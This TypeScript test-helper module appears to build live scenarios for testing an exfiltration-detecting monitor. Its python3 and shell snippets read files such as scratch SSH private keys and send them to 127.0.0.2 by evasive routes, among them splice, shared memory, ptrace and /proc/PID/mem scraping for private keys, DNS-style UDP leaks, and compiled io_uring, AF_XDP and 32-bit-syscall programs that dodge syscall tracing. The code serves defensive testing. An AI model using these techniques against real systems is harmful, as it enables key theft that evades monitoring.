import { execFileSync, spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { packageDir } from '../util/package-dir.js';

/**
 * Shell commands for live scenarios that more than one test runs (tests and
 * benchmarks only).
 */

/**
 * Descriptor passing with python3: a forked child connects to the unix
 * socket `sock`, opens `file` and passes the fd with SCM_RIGHTS, staying
 * connected until the server has accepted (an orphaned unix sock has no inode
 * to link); the server receives the fd and reads the file through it, and
 * with `sendToPort` sends what it read to 127.0.0.2:PORT.
 */
export function scmRightsScenario(sock: string, file: string, sendToPort?: number, o: { cloexec?: boolean } = {}): string {
  const send = sendToPort === undefined ? '' : `\ns = socket.create_connection(("127.0.0.2", ${sendToPort})); s.sendall(data); s.close()`;
  return `python3 -c '
import os, socket, array
srv = socket.socket(socket.AF_UNIX); srv.bind("${sock}"); srv.listen(1)
if os.fork() == 0:
    c = socket.socket(socket.AF_UNIX); c.connect("${sock}")
    fd = os.open("${file}", os.O_RDONLY)
    c.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
    c.recv(1)
    os._exit(0)
conn, _ = srv.accept()
msg, anc, flags, addr = conn.recvmsg(1, socket.CMSG_SPACE(4)${o.cloexec ? ', socket.MSG_CMSG_CLOEXEC' : ''})
conn.send(b"k")
got = array.array("i"); got.frombytes(anc[0][2])
data = os.read(got[0], 100000)${send}
os.wait()
'`;
}

/**
 * vmsplice(2) through a pipe between python3 and its forked child, which
 * sends what it gets to 127.0.0.2:PORT. `into`: the parent reads `file` and
 * vmsplices it into the pipe (user memory → pipe), the child read()s;
 * `outOf`: the parent write()s it, the child vmsplices it out of the pipe
 * (pipe → user memory).
 */
export function vmspliceScenario(file: string, port: number, way: 'into' | 'outOf'): string {
  const childTakes =
    way === 'outOf'
      ? ['buf = ctypes.create_string_buffer(1 << 16)', 'iov = iovec(ctypes.addressof(buf), 1 << 16)', 'n = libc.vmsplice(r, ctypes.byref(iov), 1, 0)', 'assert n > 0, ctypes.get_errno()', 'data = buf.raw[:n]']
      : ['data = b""', 'while True:', '    b = os.read(r, 1 << 16)', '    if not b: break', '    data += b'];
  const parentGives =
    way === 'into'
      ? ['buf = ctypes.create_string_buffer(d, len(d))', 'iov = iovec(ctypes.addressof(buf), len(d))', 'n = libc.vmsplice(w, ctypes.byref(iov), 1, 0)', 'assert n == len(d), ctypes.get_errno()']
      : ['os.write(w, d)'];
  return `python3 -c '
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
r, w = os.pipe()
pid = os.fork()
if pid == 0:
    os.close(w)
${childTakes.map((l) => `    ${l}`).join('\n')}
    s = socket.create_connection(("127.0.0.2", ${port}))
    s.sendall(data)
    s.close()
    os._exit(0)
os.close(r)
d = open("${file}", "rb").read()
${parentGives.join('\n')}
os.close(w)
os.waitpid(pid, 0)
'`;
}

/**
 * Raw frames: python3 reads `file` and sends it in one Ethernet frame
 * (local experimental EtherType 0x88b5, broadcast) on a packet socket bound
 * to `lo` (needs CAP_NET_RAW, which containers often keep). Prints the
 * bytes sent.
 */
export function packetSocketScenario(file: string): string {
  return `python3 -c '
import socket
d = open("${file}", "rb").read()
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("lo", 0))
print(s.send(bytes([255]) * 6 + bytes(6) + bytes([0x88, 0xb5]) + d))
s.close()
'`;
}

/**
 * pidfd_getfd(2): a python3 child opens `file` and waits; its parent, which
 * never opens `file`, takes a copy of the child's descriptor through a
 * pidfd (the child says its fd number over a pipe), reads it and, with
 * `sendToPort`, sends what it read to 127.0.0.2:PORT. Prints the target
 * pid, the target's fd and the new fd.
 */
export function pidfdGetfdScenario(file: string, sendToPort?: number): string {
  const send = sendToPort === undefined ? '' : `\ns = socket.create_connection(("127.0.0.2", ${sendToPort})); s.sendall(data); s.close()`;
  return `python3 -c '
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
r, w = os.pipe()
go_r, go_w = os.pipe()
pid = os.fork()
if pid == 0:
    fd = os.open("${file}", os.O_RDONLY)
    os.write(w, str(fd).encode())
    os.read(go_r, 1)
    os._exit(0)
tfd = int(os.read(r, 16))
pfd = os.pidfd_open(pid)
n = libc.syscall(438, pfd, tfd, 0)
assert n >= 0, ctypes.get_errno()
data = os.read(n, 100000)
print(pid, tfd, n)${send}
os.write(go_w, b"x")
os.waitpid(pid, 0)
'`;
}

/**
 * A descriptor of `file` passed with SCM_RIGHTS over a socketpair by
 * sendmmsg(2) and taken by recvmmsg(2) (python3 through ctypes: the
 * vector calls whose control data the probe does not parse), with a
 * second datagram of eleven bytes in the same calls; the receiver reads
 * the descriptor. Prints the bytes received by recvmmsg and those read.
 */
export function mmsgRightsScenario(file: string): string {
  return `python3 -c '
import ctypes, os, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
class msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(iovec)), ("iovlen", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t), ("flags", ctypes.c_int)]
class mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", msghdr), ("len", ctypes.c_uint)]
keep = []  # every buffer the kernel is pointed at stays alive until the end
def one(buf, ctl):
    iov = iovec(ctypes.addressof(buf), len(buf))
    keep.extend([buf, ctl, iov])
    return mmsghdr(msghdr(None, 0, ctypes.pointer(iov), 1, ctypes.addressof(ctl) if ctl is not None else None, len(ctl) if ctl is not None else 0, 0), 0)
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
fd = os.open("${file}", os.O_RDONLY)
ctl = ctypes.create_string_buffer(struct.pack("QiiI", socket.CMSG_LEN(4), socket.SOL_SOCKET, socket.SCM_RIGHTS, fd), socket.CMSG_SPACE(4))
# two datagrams in one call: one byte with the descriptor, then eleven bytes
out = (mmsghdr * 2)(one(ctypes.create_string_buffer(b"x", 1), ctl), one(ctypes.create_string_buffer(b"hello world", 11), None))
if libc.sendmmsg(a.fileno(), out, 2, 0) != 2:
    raise OSError(ctypes.get_errno(), "sendmmsg")
os.close(fd)
rctl = ctypes.create_string_buffer(socket.CMSG_SPACE(4))
into = (mmsghdr * 2)(one(ctypes.create_string_buffer(64), rctl), one(ctypes.create_string_buffer(64), ctypes.create_string_buffer(socket.CMSG_SPACE(4))))
if libc.recvmmsg(b.fileno(), into, 2, 0, None) != 2:
    raise OSError(ctypes.get_errno(), "recvmmsg")
got = struct.unpack("QiiI", rctl.raw[:20])[3]
print(into[0].len + into[1].len, len(os.read(got, 100000)))
'`;
}

/** python3 sends `file` to 127.0.0.2:PORT with sendfile(2): the data never passes through the process. */
export function sendfileScenario(file: string, port: number): string {
  return `python3 -c '
import os, socket
s = socket.create_connection(("127.0.0.2", ${port}))
fd = os.open("${file}", os.O_RDONLY)
os.sendfile(s.fileno(), fd, 0, os.path.getsize("${file}"))
s.close()
'`;
}

/** python3 moves `file` into a socket to 127.0.0.2:PORT with splice(2) twice, file → pipe → socket: no read or write of the data. */
export function spliceScenario(file: string, port: number): string {
  return `python3 -c '
import os, socket
s = socket.create_connection(("127.0.0.2", ${port}))
fd = os.open("${file}", os.O_RDONLY)
r, w = os.pipe()
n = os.splice(fd, w, 1 << 16)
while n > 0:
    n -= os.splice(r, s.fileno(), n)
s.close()
'`;
}

/**
 * python3 maps `file` into memory (no read(2)), closes it and sends the
 * mapping to 127.0.0.2:PORT. `highBits` makes the mmap syscall itself with
 * bit 32 set in the descriptor, which the kernel ignores (it takes an
 * unsigned int): a probe that read the descriptor as 64 bits would miss it.
 */
export function mmapScenario(file: string, port: number, o: { highBits?: boolean } = {}): string {
  const map = o.highBits
    ? [
        'import ctypes',
        'libc = ctypes.CDLL(None, use_errno=True)',
        'libc.syscall.restype = ctypes.c_long',
        'n = os.fstat(fd).st_size',
        'a = libc.syscall(9, ctypes.c_long(0), ctypes.c_long(n), ctypes.c_long(1), ctypes.c_long(2), ctypes.c_long(fd | (1 << 32)), ctypes.c_long(0))',
        'assert a > 0, ctypes.get_errno()',
        'd = ctypes.string_at(a, n)',
      ]
    : ['import mmap', 'm = mmap.mmap(fd, 0, prot=mmap.PROT_READ)', 'd = m[:]'];
  return `python3 -c '
import os, socket
fd = os.open("${file}", os.O_RDONLY)
${map.join('\n')}
os.close(fd)
s = socket.create_connection(("127.0.0.2", ${port}))
s.sendall(d)
s.close()
'`;
}

/**
 * Shared memory, no syscall between two processes. `anon`: python3 makes an
 * anonymous shared mapping and forks; the parent then reads `file` and
 * copies it into the mapping; the child, which never opens `file` and had
 * nothing when it was forked, polls the mapping and sends what appears to
 * 127.0.0.2:PORT. `file`: python3 maps `stage` shared and read-write, then
 * reads `file` and copies it into the mapping (no write(2)), unmaps; curl
 * then uploads `stage`. `unmapFirst` unmaps `stage` before the read: the
 * stage holds no secret then and nothing may fire.
 */
export function sharedMemoryScenario(file: string, port: number, o: { mode: 'anon' } | { mode: 'file'; stage: string; unmapFirst?: boolean }): string {
  if (o.mode === 'anon') {
    return `python3 -c '
import mmap, os, socket, time
m = mmap.mmap(-1, 1 << 16)
pid = os.fork()
if pid == 0:
    while m[0] == 0:
        time.sleep(0.005)
    n = int.from_bytes(m[1:5], "little")
    s = socket.create_connection(("127.0.0.2", ${port}))
    s.sendall(m[5:5 + n])
    s.close()
    os._exit(0)
time.sleep(0.05)
d = open("${file}", "rb").read()
m[5:5 + len(d)] = d
m[1:5] = len(d).to_bytes(4, "little")
m[0] = 1
os.waitpid(pid, 0)
'`;
  }
  const copy = o.unmapFirst
    ? ['m.close()', `d = open("${file}", "rb").read()`, 'assert len(d) > 0']
    : [`d = open("${file}", "rb").read()`, 'm[:len(d)] = d', 'm.flush()', 'm.close()'];
  return `python3 -c '
import mmap, os
fd = os.open("${o.stage}", os.O_RDWR | os.O_CREAT | os.O_TRUNC, 0o600)
os.ftruncate(fd, 1 << 16)
m = mmap.mmap(fd, 1 << 16)
os.close(fd)
${copy.join('\n')}
' && curl -s -m 10 --data-binary @${o.stage} http://127.0.0.2:${port}/ -o /dev/null`;
}

/**
 * Shared memory given up piece by piece: a python3 maps two pages of
 * anonymous memory shared and forks; the child munmaps its second page and,
 * with `unmapAll`, its first one too (two calls), tells the parent, which
 * reads `file` into its own mapping, then wakes the child with a signal (no
 * channel the parent writes to) and the child sends `hello` to
 * 127.0.0.2:PORT.
 */
export function unmapPiecewiseScenario(file: string, port: number, unmapAll: boolean): string {
  return `python3 -c '
import ctypes, os, signal, socket
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
P = 4096
a = libc.mmap(None, 2 * P, 3, 0x21, -1, 0)
assert a not in (None, ctypes.c_void_p(-1).value)
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGUSR1})
r, w = os.pipe()
pid = os.fork()
if pid == 0:
    assert libc.munmap(a + P, P) == 0
    if ${unmapAll ? 'True' : 'False'}:
        assert libc.munmap(a, P) == 0
    os.write(w, b"u")
    signal.sigwait({signal.SIGUSR1})
    s = socket.create_connection(("127.0.0.2", ${port}))
    s.sendall(b"hello")
    s.close()
    os._exit(0)
os.read(r, 1)
d = open("${file}", "rb").read()
ctypes.memmove(a, d, min(len(d), P))
os.kill(pid, signal.SIGUSR1)
_, st = os.waitpid(pid, 0)
assert st == 0
'`;
}

/**
 * System V shared memory between two unrelated processes: a python3 makes
 * segment `key`, attaches it, reads `file` into it and detaches, then
 * exits; a second python3, started afterwards and never opening `file`,
 * attaches the segment read-only, sends what it finds to 127.0.0.2:PORT and
 * removes the segment. `readFirst`: the first reads `file` before it even
 * attaches (the data it carries goes into the segment all the same).
 */
export function sysvShmScenario(file: string, port: number, key: number, o: { readFirst?: boolean } = {}): string {
  const libc = [
    'import ctypes, socket',
    'libc = ctypes.CDLL(None, use_errno=True)',
    'libc.shmat.restype = ctypes.c_void_p',
    'libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]',
    'libc.shmdt.argtypes = [ctypes.c_void_p]',
  ].join('\n');
  const read = `d = open("${file}", "rb").read()`;
  return `python3 -c '
${libc}
${o.readFirst ? read : ''}
sid = libc.shmget(${key}, 1 << 16, 0o1000 | 0o600)
assert sid >= 0, ctypes.get_errno()
a = libc.shmat(sid, None, 0)
${o.readFirst ? '' : read}
ctypes.memmove(a + 5, d, len(d))
ctypes.memmove(a + 1, len(d).to_bytes(4, "little"), 4)
ctypes.memmove(a, bytes([1]), 1)
assert libc.shmdt(a) == 0
' && python3 -c '
${libc}
sid = libc.shmget(${key}, 0, 0)
assert sid >= 0, ctypes.get_errno()
a = libc.shmat(sid, None, 0o10000)
assert ctypes.string_at(a, 1) == bytes([1])
n = int.from_bytes(ctypes.string_at(a + 1, 4), "little")
s = socket.create_connection(("127.0.0.2", ${port}))
s.sendall(ctypes.string_at(a + 5, n))
s.close()
libc.shmdt(a)
libc.shmctl(sid, 0, None)
'`;
}

/**
 * Another process' memory: a python3 "server" reads `file` and keeps it in
 * memory; a second python3, which never opens `file`, finds it in the
 * server's memory (regions from /proc/PID/maps, read through /proc/PID/mem
 * or with process_vm_readv) and sends it to 127.0.0.2:PORT. Prints the
 * number of bytes found and sent.
 */
/**
 * A process that never opens FILE finds it in the memory of one that read
 * it with ptrace peeks (attach, PTRACE_PEEKDATA a word at a time, detach),
 * and sends what it found to 127.0.0.2:PORT. The holder says where its copy
 * will lie (a buffer's address, written before it reads the secret, so
 * that note carries nothing).
 */
export function ptraceScenario(file: string, port: number): string {
  return `at=$(mktemp)
python3 -c 'import ctypes, time; b = ctypes.create_string_buffer(4096); print(ctypes.addressof(b), flush=True); open("${file}", "rb").readinto(b); time.sleep(5)' > $at &
v=$!
while [ ! -s $at ]; do sleep 0.05; done
python3 -c '
import ctypes, os, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
pid, addr = int(sys.argv[1]), int(open(sys.argv[2]).read())
if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
    raise OSError(ctypes.get_errno(), "PTRACE_ATTACH")
os.waitpid(pid, 0)
words = [libc.ptrace(2, pid, addr + 8 * i, None) & 0xFFFFFFFFFFFFFFFF for i in range(16)]  # PTRACE_PEEKDATA
libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
mem = b"".join(w.to_bytes(8, "little") for w in words)
found = mem[mem.find(b"-----BEGIN"):][:64]
s = socket.create_connection(("127.0.0.2", ${port}))
s.sendall(found)
s.close()
print(len(found))
' $v $at
kill $v; rm -f $at`;
}

export function procMemScenario(file: string, port: number, via: 'proc-mem' | 'process_vm_readv' = 'proc-mem'): string {
  const peek =
    via === 'proc-mem'
      ? ['mem = open(f"/proc/{pid}/mem", "rb", 0)', 'def peek(lo, n):', '    mem.seek(lo)', '    return mem.read(n)']
      : [
          'import ctypes',
          'libc = ctypes.CDLL(None, use_errno=True)',
          'class iovec(ctypes.Structure):',
          '    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]',
          'libc.process_vm_readv.restype = ctypes.c_ssize_t',
          'def peek(lo, n):',
          '    buf = ctypes.create_string_buffer(n)',
          '    got = libc.process_vm_readv(pid, ctypes.byref(iovec(ctypes.cast(buf, ctypes.c_void_p), n)), 1, ctypes.byref(iovec(lo, n)), 1, 0)',
          '    if got <= 0:',
          '        raise OSError(ctypes.get_errno(), "process_vm_readv")',
          '    return buf.raw[:got]',
        ];
  return `python3 -c 'import time; d = open("${file}", "rb").read(); time.sleep(5)' &
v=$!
sleep 0.5
python3 -c '
import socket, sys
pid, found = int(sys.argv[1]), b""
${peek.join('\n')}
with open(f"/proc/{pid}/maps") as maps:
    for line in maps:
        span, perms = line.split()[:2]
        if not perms.startswith("rw"):
            continue
        lo, hi = (int(x, 16) for x in span.split("-"))
        try:
            chunk = peek(lo, hi - lo)
        except OSError:
            continue
        at = chunk.find(b"PRIVATE KEY-----\\n")
        if at >= 0:
            found = chunk[at:at + 64]
            break
s = socket.create_connection(("127.0.0.2", ${port}))
s.sendall(found)
s.close()
print(len(found))
' $v
kill $v`;
}

/**
 * A process outside the watch that holds a buffer for someone to write into:
 * it prints its pid and the buffer's address, waits for a line on stdin,
 * then prints what the buffer holds (up to its first NUL) and exits.
 */
export function memoryDropbox(): { pid: Promise<{ pid: number; addr: number }>; contents: () => Promise<string>; kill: () => void } {
  const script = ['import ctypes, os, sys', 'buf = ctypes.create_string_buffer(4096)', 'print(os.getpid(), ctypes.addressof(buf), flush=True)', 'sys.stdin.readline()', 'sys.stdout.write(buf.value.decode(errors="replace"))'];
  const child = spawn('python3', ['-c', script.join('\n')], { stdio: ['pipe', 'pipe', 'inherit'] });
  let out = '';
  let ready: ((v: { pid: number; addr: number }) => void) | undefined;
  child.stdout!.on('data', (d: Buffer) => {
    out += d.toString();
    // its first line, whole (a read may end inside it)
    const nl = out.indexOf('\n');
    if (ready === undefined || nl < 0) return;
    const [p, a] = out.slice(0, nl).trim().split(/\s+/).map(Number);
    out = out.slice(nl + 1);
    ready({ pid: p!, addr: a! });
    ready = undefined;
  });
  const pid = new Promise<{ pid: number; addr: number }>((resolve, reject) => {
    ready = resolve;
    child.once('exit', (c) => reject(new Error(`the dropbox process exited (${c}) before it was ready`)));
  });
  const contents = async (): Promise<string> => {
    const done = new Promise<void>((r) => child.once('exit', () => r()));
    child.stdin!.write('\n');
    await done;
    return out;
  };
  return { pid, contents, kill: () => child.kill() };
}

/**
 * python3 reads `file` and writes its first `n` bytes into the memory of
 * process `pid` at `addr` (shell words: numbers, or "$pid" of the script):
 * with process_vm_writev (no descriptor), or through /proc/PID/mem.
 */
export function memoryHandoffScenario(file: string, pid: string | number, addr: string | number, via: 'process_vm_writev' | 'proc-mem', n = 64): string {
  const write =
    via === 'proc-mem'
      ? ['mem = open(f"/proc/{pid}/mem", "r+b", 0)', 'mem.seek(addr)', 'print(mem.write(d))']
      : [
          'import ctypes',
          'libc = ctypes.CDLL(None, use_errno=True)',
          'class iovec(ctypes.Structure):',
          '    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]',
          'libc.process_vm_writev.restype = ctypes.c_ssize_t',
          'src = ctypes.create_string_buffer(d, len(d))',
          'print(libc.process_vm_writev(pid, ctypes.byref(iovec(ctypes.cast(src, ctypes.c_void_p), len(d))), 1, ctypes.byref(iovec(addr, len(d))), 1, 0))',
        ];
  return `python3 -c '
import sys
pid, addr = int(sys.argv[1]), int(sys.argv[2])
d = open("${file}", "rb").read()[:${n}]
${write.join('\n')}
' ${pid} ${addr}`;
}

/**
 * A POSIX message queue between two processes: python3 opens a queue and
 * forks; the parent reads `file` and sends its first 100 bytes as one
 * message; the child, which never opened `file`, receives the message and
 * sends it to 127.0.0.2:PORT.
 */
export function mqueueScenario(file: string, port: number): string {
  return `python3 -c '
import ctypes, os, socket, sys
rt = ctypes.CDLL("librt.so.1", use_errno=True)
rt.mq_open.restype = ctypes.c_int
rt.mq_open.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_int, ctypes.c_void_p]
rt.mq_send.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_size_t, ctypes.c_uint]
rt.mq_receive.restype = ctypes.c_ssize_t
rt.mq_receive.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_size_t, ctypes.c_void_p]
name = b"/cwq%d" % os.getpid()
q = rt.mq_open(name, os.O_CREAT | os.O_RDWR, 0o600, None)
if q < 0:
    raise OSError(ctypes.get_errno(), "mq_open")
if os.fork() == 0:
    buf = ctypes.create_string_buffer(8192)
    n = rt.mq_receive(q, buf, 8192, None)
    s = socket.create_connection(("127.0.0.2", ${port}))
    s.sendall(buf.raw[:n])
    s.close()
    os._exit(0)
d = open("${file}", "rb").read()[:100]
if rt.mq_send(q, d, len(d), 0) != 0:
    raise OSError(ctypes.get_errno(), "mq_send")
os.wait()
rt.mq_unlink(name)
print(len(d))
'`;
}

/** A DNS-style leak: python3 reads `file` and sends part of it hex-encoded as a UDP datagram (a query name) to 127.0.0.2:PORT. */
export function udpLeakScenario(file: string, port: number): string {
  return `python3 -c '
import socket
d = open("${file}", "rb").read()[:24].hex()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto((d + ".leak.example").encode(), ("127.0.0.2", ${port}))
'`;
}

/**
 * A local TLS server that reads its own key (`DIR/server.key`, made here with
 * openssl) and answers one HTTPS request on a connection it accepted on
 * 127.0.0.2:PORT; curl, not the server's child (a child would inherit what the
 * server read), fetches `DIR/got`. Key material read to serve, not sent out.
 */
export function tlsServerScenario(dir: string, port: number): string {
  mkdirSync(dir, { recursive: true });
  execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', join(dir, 'server.key'), '-out', join(dir, 'server.pem'), '-days', '1', '-subj', '/CN=127.0.0.2'], { stdio: 'ignore' });
  writeFileSync(
    join(dir, 'server.py'),
    [
      'import socket, ssl',
      'ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)',
      `ctx.load_cert_chain("${join(dir, 'server.pem')}", "${join(dir, 'server.key')}")`,
      's = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)',
      `s.bind(("127.0.0.2", ${port})); s.listen(1)`,
      'c, _ = s.accept(); t = ctx.wrap_socket(c, server_side=True); t.recv(4096)',
      't.sendall(b"HTTP/1.0 200 OK\\r\\nContent-Length: 2\\r\\n\\r\\nok"); t.close()',
    ].join('\n'),
  );
  return `python3 ${join(dir, 'server.py')} & sleep 1; curl -sk -m 10 https://127.0.0.2:${port}/ -o ${join(dir, 'got')}; wait`;
}

/** A scratch directory (`prefix` + random) holding an ssh private key, `DIR/.ssh/id_rsa` (class `secret`), made of `text`. */
export function scratchWithKey(prefix: string, text: string): { dir: string; key: string } {
  const dir = mkdtempSync(join(tmpdir(), prefix));
  mkdirSync(join(dir, '.ssh'));
  const key = join(dir, '.ssh', 'id_rsa');
  writeFileSync(key, text);
  return { dir, key };
}

/**
 * Builds src/testing/uring-exfil.c (a program that does its I/O through an
 * io_uring ring; gcc and liburing-dev, which scripts/setup.sh installs) into
 * `dir` and returns its path. Throws when it cannot: a test that needs it
 * fails loudly.
 */
export function buildUringExfil(dir: string): string {
  const src = packageDir('src', 'testing/uring-exfil.c');
  if (src === undefined) throw new Error('src/testing/uring-exfil.c not found above this module');
  const bin = join(dir, 'uring-exfil');
  execFileSync('gcc', ['-O2', '-Wall', '-o', bin, join(src, 'testing/uring-exfil.c'), '-luring'], { stdio: 'pipe' });
  return bin;
}

/** Compiles src/testing/shared-vm-exfil.c into `dir` (gcc); returns the binary's path. */
export function buildSharedVmExfil(dir: string): string {
  return buildTestProgram(dir, 'shared-vm-exfil');
}

/**
 * AF_XDP with no write(2) of the data (src/testing/xdp-exfil.c): the secret
 * read into the memory registered with an AF_XDP socket leaves as an
 * Ethernet frame through a TX ring mapped from the socket, kicked by a
 * zero-byte sendto. Usage: BIN SECRET IFNAME; prints "sent N bytes".
 */
export function buildXdpExfil(dir: string): string {
  return buildTestProgram(dir, 'xdp-exfil');
}

/**
 * Exfiltration through 32-bit syscalls (`int $0x80`) from a 64-bit process
 * (src/testing/ia32-exfil.c), which the syscall tracepoints do not report.
 * Usage: BIN FILE PORT (to 127.0.0.2); prints "read N sent M".
 */
export function buildIa32Exfil(dir: string): string {
  // static and not position-independent: the buffers it hands the kernel need 32-bit addresses
  return buildTestProgram(dir, 'ia32-exfil', ['-static', '-no-pie']);
}

/** Compiles src/testing/NAME.c into dir (gcc; CI installs it with build-essential). */
function buildTestProgram(dir: string, name: string, flags: string[] = []): string {
  const src = packageDir('src', `testing/${name}.c`);
  if (src === undefined) throw new Error(`src/testing/${name}.c not found above this module`);
  const bin = join(dir, name);
  execFileSync('gcc', ['-O2', '-Wall', ...flags, '-o', bin, join(src, `testing/${name}.c`)], { stdio: 'pipe' });
  return bin;
}
